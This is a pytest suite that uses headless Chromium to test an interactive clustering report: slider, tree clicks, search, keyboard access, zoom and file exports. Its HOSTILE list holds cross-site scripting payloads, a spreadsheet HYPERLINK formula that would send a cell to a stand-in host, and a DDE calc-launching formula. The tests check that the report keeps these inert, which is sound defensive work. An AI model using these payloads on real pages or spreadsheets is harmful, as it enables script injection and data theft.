"""The report as a person meets it: opened in headless Chromium, moved, clicked, searched."""

import csv
import io
import re
import shutil
from itertools import pairwise
from types import SimpleNamespace
from xml.etree import ElementTree

import numpy as np
import pytest
from scipy.cluster import hierarchy
from sklearn.datasets import make_blobs

from convexcluster import KernelConvexClustering, solve_path
from convexcluster.certificate import Certificate
from convexcluster.labels import cut
from convexcluster.partition import by_size, canonical, means
from convexcluster.path.builder import PathBuilder
from convexcluster.plots.layout import Branches
from convexcluster.report import notebook_html, write_report

sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
NAMES = ("chromium", "chromium-browser", "google-chrome")
CHROMIUM = next(filter(None, map(shutil.which, NAMES)), None)
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")

FLAGS = [
    "--no-sandbox",
    "--headless=new",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
N = 45  # fits on one page of the table of members


@pytest.fixture(scope="module")
def browser():
    with sync_api.sync_playwright() as playwright:
        made = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield made
        made.close()


@pytest.fixture(scope="module")
def fitted():
    X, y = make_blobs(N, 4, centers=3, cluster_std=1.2, random_state=3)
    i, j = np.triu_indices(N, 1)
    edges = np.stack([i, j], axis=1)
    # weights between all pairs: every cluster fuses in the end
    weights = np.maximum(np.exp(-((X[i] - X[j]) ** 2).sum(axis=1) / 8), 1e-4)
    path = solve_path(X, edges, weights)
    step = int(np.flatnonzero(path.n_clusters <= 4)[0])
    return SimpleNamespace(
        X=X,
        y=y,
        path_=path,
        labels_=path.labels(gamma=path.gammas[step]),
        n_clusters=None,
        n_clusters_=int(path.n_clusters[step]),
        gamma_=float(path.gammas[step]),
        embedding_=X,
        linkage_=path.to_linkage(),
        _embedding=SimpleNamespace(kernel=SimpleNamespace(name="linear", is_precomputed=False)),
        selection_=SimpleNamespace(verdict="structure", confidence=np.nan, layers=()),
        certificate_=Certificate(0.0, relative_gap=2e-8, radius=0.01, partition="certified"),
    )


class Report:
    """A page that must stay silent: no error, no request but for the file itself."""

    def __init__(self, browser, file, **options):
        options = {"viewport": {"width": 1300, "height": 900}, **options}
        self.context = browser.new_context(**options)
        self.page = self.context.new_page()
        self.errors, self.requests = [], []
        self.page.on("console", lambda message: self.errors.append(message.text))
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.on("dialog", lambda dialog: self.errors.append(dialog.message))
        self.page.goto(file.as_uri())
        self.page.wait_for_selector("html[data-ready]")
        self.uri = file.as_uri()

    def close(self):
        self.context.close()
        assert self.errors == []
        assert [url for url in self.requests if not url.startswith("blob:")] == [self.uri]

    def text(self, selector):
        return self.page.inner_text(selector)

    def settle(self, act):
        """Do ``act`` and wait until its consequences are drawn."""
        act()
        self.page.evaluate(
            "() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))"
        )

    def slide(self, value):
        self.settle(
            lambda: self.page.eval_on_selector(
                "#slider",
                "(s, v) => { s.value = v; s.dispatchEvent(new Event('input', {bubbles: true})); }",
                value,
            )
        )

    def rows(self, table="#members tbody"):
        return self.page.eval_on_selector_all(
            f"{table} tr", "rows => rows.map(r => [...r.cells].map(c => c.textContent))"
        )

    def labels(self):
        """Numbers of the clusters on screen, in the order of the samples."""
        return [int(row[1]) for row in self.rows()]

    def partition(self):
        """The same, numbered by first appearance as paths do."""
        return canonical(np.array(self.labels())).tolist()


@pytest.fixture
def open_report(browser, tmp_path):
    opened = []

    def make(what, page_options=None, **options):
        file = write_report(what, tmp_path / "report.html", **options)
        opened.append(Report(browser, file, **(page_options or {})))
        return opened[-1]

    yield make
    for report in opened:
        report.close()


def test_the_labels_on_screen_are_those_of_the_path(open_report, fitted):
    report, path = open_report(fitted), fitted.path_
    assert report.labels() == fitted.labels_.tolist()
    for step, gamma in enumerate(path.gammas):
        report.slide(step)
        assert report.partition() == path.labels(gamma=gamma).tolist()
        assert f"{path.n_clusters[step]} cluster" in report.text("#readout")
    report.settle(lambda: report.page.check("input[value=k]"))
    for k in range(1, N + 1):
        report.slide(k)
        assert report.partition() == path.labels(n_clusters=k).tolist()


def test_the_labels_after_a_split_are_those_of_the_path(open_report):
    builder = PathBuilder(np.ones(5), 10.0)
    steps = [[0, 1, 2, 3, 4], [0, 0, 1, 1, 2], [0, 1, 1, 1, 2], [0, 1, 1, 0, 0], [0, 0, 0, 0, 0]]
    for t, labels in enumerate(steps):
        k = max(labels) + 1
        builder.add(1.0 + t, np.array(labels), np.arange(k, dtype=float)[:, None], 0.0, True)
    path = builder.build()
    report = open_report(path)
    for t in (4, 0, 3, 1, 2):
        report.slide(t)
        assert report.partition() == path.labels(gamma=1.0 + t).tolist() == steps[t]
    assert "split again" in report.text("#certificate")


def test_a_click_on_a_branch_lists_its_members(open_report, fitted):
    ids = [f"s{i}" for i in range(N)]
    report, tree = open_report(fitted, ids=ids), Branches.of(fitted.linkage_)
    report.page.locator("#tree").scroll_into_view_if_needed()
    box = report.page.locator("#tree").bounding_box()
    met = set()
    for share in (0.35, 0.5, 0.65, 0.8):
        for down in range(8, int(box["height"]) - 40, 6):
            x, y = box["x"] + share * box["width"], box["y"] + down
            report.page.mouse.move(x, y)
            tip = report.page.locator("#tip")
            if tip.is_hidden() or "fused at" not in tip.text_content():
                continue
            report.settle(lambda x=x, y=y: report.page.mouse.click(x, y))
            size = int(re.match(r"Branch of (\d+)", report.text("#details-name"))[1])
            shown = {int(row[0][1:]) for row in report.rows()}
            nodes = [
                node for node in range(N, 2 * N - 1) if set(tree.members(node).tolist()) == shown
            ]
            assert len(nodes) == 1
            assert tree.size[nodes[0]] == size
            met.add(nodes[0])
            break
    assert len(met) >= 2


def test_a_click_on_a_centroid_or_a_curve(open_report, fitted):
    report = open_report(fitted)
    report.settle(lambda: report.page.click(f"#list button[data-cluster='{fitted.labels_[0]}']"))
    assert {int(row[0]) for row in report.rows()} == set(
        np.flatnonzero(fitted.labels_ == fitted.labels_[0]).tolist()
    )
    last = len(fitted.path_.gammas) - 1
    report.slide(last)  # the chosen cluster is followed to where it has gone
    assert len(report.rows()) == N
    report.settle(lambda: report.page.click("#chosen"))
    report.settle(lambda: report.page.keyboard.press("Escape"))
    assert report.text("#details-name") == "All samples"
    counts = report.page.locator("#counts")
    box = counts.bounding_box()
    report.settle(lambda: counts.click(position={"x": 64, "y": box["height"] / 2}))
    assert report.partition() == fitted.path_.labels(gamma=fitted.path_.gammas[0]).tolist()
    elbow = report.page.locator("#elbow")
    report.settle(lambda: elbow.click(position={"x": 66, "y": 60}))
    assert report.partition() == [0] * N


def test_effect_sizes_are_those_of_the_features(open_report, fitted):
    names = ["width", "height", "depth", "mass"]
    report = open_report(fitted, X=fitted.X, feature_names=names, y=fitted.y)
    report.settle(lambda: report.page.click("#list button[data-cluster='0']"))
    inside = fitted.labels_ == 0
    a, b = fitted.X[inside], fitted.X[~inside]
    scatter = ((a - a.mean(axis=0)) ** 2).sum(axis=0) + ((b - b.mean(axis=0)) ** 2).sum(axis=0)
    d = (a.mean(axis=0) - b.mean(axis=0)) / np.sqrt(scatter / (N - 2))
    rows = report.rows("#features tbody")
    assert [row[0] for row in rows] == [names[f] for f in np.argsort(-np.abs(d))]
    for row in rows:
        shown = float(row[3].replace("−", "-"))
        # four digits are shown of numbers that were stored in single precision
        assert shown == pytest.approx(d[names.index(row[0])], rel=6e-4)
    assert "Known labels here" in report.text("#features")


def test_a_fitted_estimator_reports_itself(browser, tmp_path):
    X, y = make_blobs(40, 3, centers=3, cluster_std=0.7, random_state=5)
    X = np.concatenate([X, X[:5]])  # duplicates share a cluster
    model = KernelConvexClustering(random_state=0).fit(X)
    model.report(tmp_path / "report.html", X=X, y=np.append(y, y[:5]))
    report = Report(browser, tmp_path / "report.html")
    assert report.labels() == model.labels_.tolist()
    assert f"{model.n_clusters_} cluster" in report.text("#readout")
    assert f"{model.certificate_.relative_gap:.1e}" in report.text("#certificate")
    report.settle(lambda: report.page.check("input[value=gamma]"))
    report.slide(len(model.path_.gammas) // 2)
    gamma = model.path_.gammas[len(model.path_.gammas) // 2]
    assert report.partition() == model.path_.labels(gamma=gamma).tolist()
    report.close()


HOSTILE = [
    "<script>window.hacked=1</script>",
    '"><img src=x onerror="window.hacked=1">',
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "</script><script>window.hacked=1</script>",
    "{{script}} ${window.hacked=1} \u2028 ' \\",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
]


def test_hostile_text_is_shown_and_does_nothing(open_report, fitted):
    ids = [f"{HOSTILE[i % len(HOSTILE)]}{i}" for i in range(N)]
    report = open_report(
        fitted,
        X=fitted.X,
        ids=ids,
        y=[HOSTILE[i % 3] for i in range(N)],
        feature_names=HOSTILE[:4],
        title=HOSTILE[3],
    )
    page = report.page
    assert page.text_content("#title") == page.title() == HOSTILE[3]
    assert [row[0] for row in report.rows()] == ids
    assert [row[2] for row in report.rows()] == [HOSTILE[i % 3] for i in range(N)]
    report.settle(lambda: page.click("#list button >> nth=0"))
    assert {row[0] for row in report.rows("#features tbody")} == set(HOSTILE[:4])
    page.fill("#search", "onerror")
    assert page.text_content("#found li >> nth=0").startswith(ids[1])
    box = page.locator("#plane").bounding_box()
    for step in range(12):
        page.mouse.move(box["x"] + box["width"] * step / 12, box["y"] + box["height"] / 2)
    assert page.evaluate("window.hacked") is None
    assert page.evaluate("document.images.length") == 0
    assert page.evaluate("document.scripts.length") == 3


def test_downloaded_labels_are_those_shown_and_disarmed(open_report, fitted):
    ids = [HOSTILE[i] if i < len(HOSTILE) else f"-{i}.5" for i in range(N)]
    report = open_report(fitted, ids=ids)
    report.slide(len(fitted.path_.gammas) // 3)
    shown = report.labels()
    with report.page.expect_download() as waiting:
        report.page.click("#download")
    assert waiting.value.suggested_filename.endswith(".csv")
    text = waiting.value.path().read_text("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    assert header == ["id", "cluster"]
    assert [int(row[1]) for row in rows] == shown
    for row, name in zip(rows, ids):
        assert row[0].lstrip("'") == name
        number = re.fullmatch(r"-?\d+(\.\d+)?", row[0])
        assert number or row[0].strip()[0] not in "=+-@"


def test_a_sample_is_found_by_its_name(open_report, fitted):
    ids = [f"sample {i}" for i in range(N)]
    report = open_report(fitted, ids=ids)
    report.page.fill("#search", "Sample 17")
    assert report.text("#found li >> nth=0") == f"sample 17: cluster {fitted.labels_[17]}"
    report.settle(lambda: report.page.press("#search", "Enter"))
    assert report.text("#details-name").startswith(f"Cluster {fitted.labels_[17]}:")
    assert report.text("tr.picked td >> nth=0") == "sample 17"
    report.page.fill("#search", "nobody")
    assert "No sample" in report.text("#found")


def test_it_works_by_keyboard_alone(open_report, fitted):
    report = open_report(fitted)
    page = report.page
    page.focus("#slider")
    before = report.text("#readout")
    report.settle(lambda: page.keyboard.press("ArrowLeft"))
    assert report.text("#readout") != before
    page.focus("#tree")
    report.settle(lambda: page.keyboard.press("ArrowLeft"))
    first, _ = fitted.linkage_[-1, :2].astype(int)
    size = int(Branches.of(fitted.linkage_).size[first])
    assert f"{size} samples" in report.text("#details-name")
    page.focus("#plane")
    report.settle(lambda: page.keyboard.press("ArrowDown"))
    assert report.text("#details-name").startswith("Cluster")
    page.focus("#list button >> nth=0")
    report.settle(lambda: page.keyboard.press("Enter"))
    assert page.evaluate("document.activeElement.dataset.cluster") is not None
    page.keyboard.press("/")
    assert page.evaluate("document.activeElement.id") == "search"


def test_everything_operable_has_a_name(open_report, fitted):
    report = open_report(fitted)
    unnamed = report.page.evaluate(
        """() => [...document.querySelectorAll('button, input, select, canvas, output')]
            .filter(e => !e.hidden && !(e.getAttribute('aria-label') || e.textContent.trim()
                || (e.labels && e.labels.length)))
            .map(e => e.outerHTML)"""
    )
    assert unnamed == []
    assert f"{fitted.n_clusters_} clusters" in report.page.get_attribute("#plane", "aria-label")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_it_follows_the_colour_scheme_and_can_be_switched(open_report, fitted, scheme):
    report = open_report(fitted, page_options={"color_scheme": scheme})

    def brightness():
        colour = report.page.evaluate("getComputedStyle(document.body).backgroundColor")
        return sum(map(int, re.findall(r"\d+", colour)[:3]))

    assert (brightness() > 384) == (scheme == "light")
    report.settle(lambda: report.page.click("#theme"))
    assert (brightness() > 384) == (scheme == "dark")


def test_labels_that_are_not_on_the_path_are_shown_as_the_estimators(open_report, fitted):
    own = np.arange(N) % 3
    other = SimpleNamespace(**{**vars(fitted), "labels_": own, "n_clusters_": 3})
    report = open_report(other)
    assert "own labels" in report.text("#readout")
    assert report.labels() == own.tolist()
    report.slide(0)
    assert report.partition() == fitted.path_.labels(gamma=fitted.path_.gammas[0]).tolist()
    report.settle(lambda: report.page.click("#chosen"))
    assert report.labels() == own.tolist()


def test_the_tree_that_an_estimator_cut_can_be_walked(open_report, fitted):
    tree = hierarchy.linkage(fitted.X, "average")
    labels = cut(tree, 4)
    labels = np.argsort(np.argsort(-np.bincount(labels), kind="stable"))[labels]
    moved = labels.copy()
    moved[0] = (labels[0] + 1) % 4  # an estimator may move a few samples after the cut
    other = SimpleNamespace(
        **{**vars(fitted), "labels_": moved, "n_clusters_": 4, "linkage_": tree}
    )
    report = open_report(other)
    assert report.labels() == moved.tolist()
    assert "depart from the cut of its tree in 1 sample." in report.text("#certificate")
    for k in (1, 2, 3, 5, 9):
        report.slide(k)
        assert report.partition() == cut(tree, k).tolist()
    report.slide(4)
    assert report.labels() == moved.tolist()
    page = report.page
    page.focus("#tree")
    report.settle(lambda: page.keyboard.press("ArrowLeft"))
    first = int(tree[-1, 0])
    assert {int(row[0]) for row in report.rows()} == set(Branches.of(tree).members(first).tolist())
    report.settle(lambda: page.check("input[value=gamma]"))
    assert report.text("#details-name") == "All samples"  # the branch was one of the other tree
    assert report.partition() == fitted.path_.labels(gamma=fitted.gamma_).tolist()


def test_a_merged_cluster_keeps_its_number_and_its_colour(open_report, fitted):
    X = fitted.X[:20]
    tree, builder = hierarchy.linkage(X, "ward"), PathBuilder(np.ones(20), 1.0)
    for k in range(20, 0, -1):
        labels = cut(tree, k)
        builder.add(21.0 - k, labels, means(X, np.ones(20), labels), 0.0, True)
    path = builder.build()
    report = open_report(path)
    colours = """() => Object.fromEntries([...document.querySelectorAll('#list button')].map(
        b => [b.dataset.cluster, [b.querySelector('polygon').getAttribute('fill'),
            b.querySelector('polygon').getAttribute('points')]]))"""
    shown = []
    for step in range(len(path.gammas)):
        report.slide(step)
        labels, styles = path.labels(gamma=path.gammas[step]), report.page.evaluate(colours)
        # number, colour and marker of every cluster of the path
        names = dict(zip(labels.tolist(), map(str, report.labels())))
        shown.append((labels, {t: (name, *styles[name]) for t, name in names.items()}))
        if len(styles) <= 12:
            assert len({colour for colour, _ in styles.values()}) == len(styles)
    for (before, old), (after, new) in pairwise(shown):
        assert len(set(new.values())) == len(new)
        for t in range(after.max() + 1):
            parts, sizes = np.unique(before[after == t], return_counts=True)
            if len(sizes) == 1 or sizes[0] != sizes[1]:
                assert new[t] == old[parts[sizes.argmax()]]


def test_a_notebook_frame_draws_itself(browser, fitted):
    page = browser.new_page()
    errors = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("console", lambda message: errors.append(message.text))
    page.set_content(notebook_html(fitted))
    assert not page.locator("iframe").is_visible()
    page.get_by_text("Show the report").click()
    frame = page.frame_locator("iframe")
    frame.locator("html[data-ready]").wait_for()
    assert f"{fitted.n_clusters_} clusters" in frame.locator("#readout").inner_text()
    page.close()
    assert errors == []


@pytest.fixture(scope="module")
def flat():
    """Thirty samples of two features with distinct first values, their fit and other planes."""
    rng = np.random.default_rng(0)
    X = np.stack([np.linspace(0, 10, 30), np.repeat([0.0, 3.0], 15)], axis=1)
    X[:, 1] += rng.normal(scale=0.3, size=30)
    model = KernelConvexClustering(n_clusters=2, min_cluster_size=3).fit(X)
    return SimpleNamespace(X=X, model=model, umap=rng.normal(size=(30, 2)))


def saved(report, picture, kind):
    with report.page.expect_download() as waiting:
        report.page.click(f"#{picture}-{kind}")
    assert waiting.value.suggested_filename.startswith(f"{picture}_k")
    return waiting.value.path().read_bytes()


def places(report):
    """Where samples are drawn, by their colour on the scale of the first feature."""
    text = saved(report, "plane", "svg").decode()
    circles = re.findall(
        r'<path d="M(\S+) (\S+?)A\S+ \S+ 0 1 0 (\S+) [^"]*Z?" fill="(#\w+)" opacity', text
    )
    return {colour: np.array([(float(a) + float(b)) / 2, float(y)]) for a, y, b, colour in circles}


def slopes(drawn, points):
    """Pixels per unit on each axis, by the samples in the order of their colours' places."""
    names = sorted(drawn, key=lambda colour: drawn[colour][0])
    at = np.array([drawn[colour] for colour in names])
    order = np.argsort(points[:, 0])
    return [np.polyfit(points[order, j], at[:, j], 1)[0] for j in (0, 1)]


def test_planes_are_chosen_in_the_page_and_have_one_unit(open_report, flat):
    report = open_report(flat.model, coordinates={"X_umap": flat.umap, "scores": flat.X[:, :1]})
    page = report.page
    names = page.eval_on_selector_all("#view option", "all => all.map(o => o.textContent)")
    assert names == ["the two features", "kernel PCA", "umap"]
    report.settle(lambda: page.select_option("#colour", "feature:0"))
    for place, points in ((0, flat.X), (2, flat.umap)):
        report.settle(lambda place=place: page.select_option("#view", str(place)))
        drawn = places(report)
        assert len(drawn) == 30
        across, up = slopes(drawn, points)
        assert across == pytest.approx(-up, rel=1e-2)  # the page counts downwards


def test_the_plane_can_be_magnified_and_moved(open_report, flat):
    report = open_report(flat.model)
    page = report.page
    report.settle(lambda: page.select_option("#colour", "feature:0"))
    whole = places(report)

    def factor():
        now = places(report)
        shared = sorted(set(now) & set(whole))
        one, two = shared[0], shared[-1]
        return np.linalg.norm(now[one] - now[two]) / np.linalg.norm(whole[one] - whole[two])

    canvas = page.locator("#plane")
    canvas.scroll_into_view_if_needed()
    box = canvas.bounding_box()
    x, y = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
    assert page.is_disabled("#zoom-out")
    report.settle(lambda: page.click("#zoom-in"))
    assert factor() == pytest.approx(1.5, rel=1e-2)
    before = places(report)
    page.mouse.move(x, y)
    page.mouse.down()
    report.settle(lambda: page.mouse.move(x + 30, y + 10, steps=4))
    page.mouse.up()
    after = places(report)
    moved = [after[c] - before[c] for c in set(after) & set(before)]
    np.testing.assert_allclose(moved, np.tile([30, 10], (len(moved), 1)), atol=5)
    assert report.text("#details-name") == "All samples"  # a drag is no click
    report.settle(lambda: page.click("#zoom-whole"))
    assert factor() == pytest.approx(1, rel=1e-6)
    page.mouse.move(x, y)
    page.keyboard.down("Control")
    report.settle(lambda: page.mouse.wheel(0, -150))
    page.keyboard.up("Control")
    assert factor() == pytest.approx(np.exp(0.5), rel=1e-2)
    page.focus("#plane")
    report.settle(lambda: page.keyboard.press("0"))
    assert factor() == pytest.approx(1, rel=1e-6)
    report.settle(lambda: page.mouse.dblclick(x, y))
    assert factor() == pytest.approx(2, rel=1e-2)


def test_two_fingers_magnify(open_report, flat):
    report = open_report(flat.model, page_options={"has_touch": True})
    page = report.page
    report.settle(lambda: page.select_option("#colour", "feature:0"))
    whole = places(report)
    box = page.locator("#plane").bounding_box()
    x, y = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
    touch = report.context.new_cdp_session(page)

    def fingers(kind, apart):
        points = [{"x": x - apart, "y": y, "id": 0}, {"x": x + apart, "y": y, "id": 1}]
        points = [] if kind == "touchEnd" else points
        touch.send("Input.dispatchTouchEvent", {"type": kind, "touchPoints": points})

    fingers("touchStart", 40)
    for apart in (60, 80):
        report.settle(lambda apart=apart: fingers("touchMove", apart))
    report.settle(lambda: fingers("touchEnd", 80))
    now = places(report)
    one, two = sorted(set(now) & set(whole))[::8][:2]
    grown = np.linalg.norm(now[one] - now[two]) / np.linalg.norm(whole[one] - whole[two])
    assert grown == pytest.approx(2, rel=0.05)


def test_samples_are_coloured_by_what_is_chosen(open_report, flat):
    names = np.where(np.arange(30) < 15, "low", "high & <b>")
    report = open_report(flat.model, y=names, feature_names=["length", "width"])
    page = report.page
    kinds = page.eval_on_selector_all("#colour option", "all => all.map(o => o.value)")
    assert kinds == ["cluster", "known", "membership", "lonely", "feature:0", "feature:1"]
    for kind, words in [
        ("cluster", "0 (15)"),
        ("known", "high &#38; &#60;b&#62;"),
        ("membership", "membership"),
        ("lonely", "outlier score"),
        ("feature:1", "width"),
    ]:
        report.settle(lambda kind=kind: page.select_option("#colour", kind))
        text = saved(report, "plane", "svg").decode()
        assert words in text
        ElementTree.fromstring(text)


def test_every_picture_can_be_kept(open_report, flat):
    hostile = [HOSTILE[i % len(HOSTILE)] for i in range(30)]
    report = open_report(flat.model, ids=hostile, feature_names=HOSTILE[:2])
    report.settle(lambda: report.page.fill("#search", "onerror"))
    report.settle(lambda: report.page.press("#search", "Enter"))  # its name stands in the plane
    for picture in ("plane", "tree", "counts", "elbow"):
        drawing = ElementTree.fromstring(saved(report, picture, "svg"))
        kinds = {element.tag.rpartition("}")[2] for element in drawing.iter()}
        assert kinds <= {"svg", "rect", "path", "text"}
        assert len(drawing) > 10
    for picture in ("plane", "elbow"):
        wide = report.page.evaluate(f"document.getElementById('{picture}').clientWidth")
        image = saved(report, picture, "png")
        assert image[:8] == b"\x89PNG\r\n\x1a\n"
        assert int.from_bytes(image[16:20], "big") == 3 * wide


def test_layers_are_buttons(open_report, fitted):
    tree = hierarchy.linkage(fitted.X, "average")
    layers = [
        SimpleNamespace(n_clusters=k, labels=by_size(cut(tree, k), np.ones(N)), confidence=sure)
        for k, sure in ((3, 0.9), (2, 0.5), (7, np.nan))
    ]
    choice = SimpleNamespace(layers=layers, verdict="structure", confidence=0.9)
    other = SimpleNamespace(
        **{
            **vars(fitted),
            "labels_": layers[0].labels,
            "n_clusters_": 3,
            "linkage_": tree,
            "selection_": choice,
        }
    )
    report = open_report(other)
    page = report.page
    assert report.text("#layers").split("\n") == [
        "3 clusters · 0.90",
        "2 clusters · 0.50",
        "7 clusters",
    ]
    chosen = np.array(report.labels())
    assert chosen.tolist() == layers[0].labels.tolist()
    for layer in layers[::-1]:
        report.settle(
            lambda layer=layer: page.click(f"#layers button[data-k='{layer.n_clusters}']")
        )
        assert report.partition() == canonical(layer.labels).tolist()
        pressed = page.eval_on_selector_all(
            "#layers [aria-pressed=true]", "all => all.map(b => b.dataset.k)"
        )
        assert pressed == [str(layer.n_clusters)]
        # the larger part of a cluster that was split, and a cluster that was not, keep the number
        shown = np.array(report.labels())
        for t in range(3):
            parts, sizes = np.unique(shown[chosen == t], return_counts=True)
            if layer.n_clusters == 7 and (sizes == sizes.max()).sum() == 1:
                assert parts[sizes.argmax()] == t
    assert report.labels() == chosen.tolist()


def test_the_verdict_comes_first_and_plain_words_before_the_theorem(open_report, flat):
    report = open_report(flat.model)
    verdict = report.text("#verdict")
    assert verdict.startswith("2 clusters, as asked: ")
    assert report.text("#gamma-is").count(".") == 1
    text = report.text("body")
    order = ["2 clusters, as asked", "γ is the strength", "How sure is this?", "What was found"]
    order += ["What is proved", "How much may change", "The theorem under it", "strongly convex"]
    where = [text.index(words) for words in order]
    assert where == sorted(where)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_it_fits_a_phone(open_report, flat, scheme):
    options = {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}
    report = open_report(
        flat.model,
        page_options={**options, "color_scheme": scheme},
        title="A rather long title " * 3,
    )
    assert report.page.evaluate("document.documentElement.scrollWidth") <= 390
    wide = report.page.evaluate(
        """() => [...document.querySelectorAll('main > *, header *, .bar *')]
            .filter(e => e.getBoundingClientRect().right > 391).map(e => e.outerHTML)"""
    )
    assert wide == []
